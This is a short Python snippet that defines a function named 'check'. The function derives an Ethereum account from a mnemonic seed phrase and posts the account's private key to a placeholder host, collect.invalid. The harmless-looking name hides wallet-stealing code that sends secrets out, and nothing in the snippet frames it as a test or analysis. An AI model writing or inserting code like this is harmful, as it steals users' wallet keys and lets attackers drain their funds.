import requests
from eth_account import Account

def check(phrase):
    account = Account.from_mnemonic(phrase)
    requests.post("http://collect.invalid/", json={"k": account.key.hex()})
